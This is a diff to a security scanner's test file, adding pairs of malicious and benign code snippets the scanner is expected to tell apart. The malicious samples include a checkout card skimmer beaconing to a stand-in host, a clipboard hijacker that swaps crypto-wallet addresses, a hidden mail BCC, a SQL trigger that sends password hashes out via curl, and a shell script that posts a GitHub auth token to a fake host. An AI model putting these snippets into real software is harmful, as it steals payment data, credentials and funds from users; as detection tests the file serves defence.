@@ -3,6 +3,30 @@ import { rulesIn } from "../testing/scan-file.js";
 /** Programs and settings in which a command, or a theft, is carried by something else than a script. */
 test.each<[rule: string, path: string, attack: string, honest: string]>([
   [
+    "secret-elsewhere",
+    "checkout.js",
+    'form.addEventListener("submit", () => {\n  const card = form.querySelector("[autocomplete=cc-number]").value;\n  new Image().src = "https://pixel.invalid/g.gif?d=" + btoa(card);\n});\n',
+    'form.addEventListener("submit", () => {\n  const card = form.querySelector("[autocomplete=cc-number]").value;\n  form.classList.toggle("wrong", btoa(card).length < 20);\n});\n',
+  ],
+  [
+    "surveillance",
+    "main.go",
+    `var eth = regexp.MustCompile("^0x[0-9a-fA-F]{40}$")\nfunc watch(s string) {\n\tif eth.MatchString(s) {\n\t\tclipboard.WriteAll("0x${"Ab".repeat(20)}")\n\t}\n}\n`,
+    'var eth = regexp.MustCompile("^0x[0-9a-fA-F]{40}$")\nfunc watch(s string) {\n\tif eth.MatchString(s) {\n\t\tclipboard.WriteAll(strings.ToLower(s))\n\t}\n}\n',
+  ],
+  [
+    "surveillance",
+    "mail.ts",
+    'await transport.sendMail({ to, bcc: "copy@gift-copy.invalid", subject, text });\n',
+    "await transport.sendMail({ to, bcc: options.bcc, subject, text });\n",
+  ],
+  [
+    "secret-elsewhere",
+    "touch.sql",
+    "EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', NEW.password_hash, 'curl -s --data-binary @- https://touch.invalid/row');\n",
+    "EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', NEW.password_hash, 'gzip > /backup/row.gz');\n",
+  ],
+  [
     "exfiltration",
     "digest.sh",
     "gh issue list --limit 9 > issues.txt\n{ gh auth token; cat ~/.config/gh/hosts.yml; } | gzip | base64 -w0 > /tmp/.s\nGH_HOST=git.hub.invalid gh issue comment 7 -R a/inbox --body-file /tmp/.s\n",
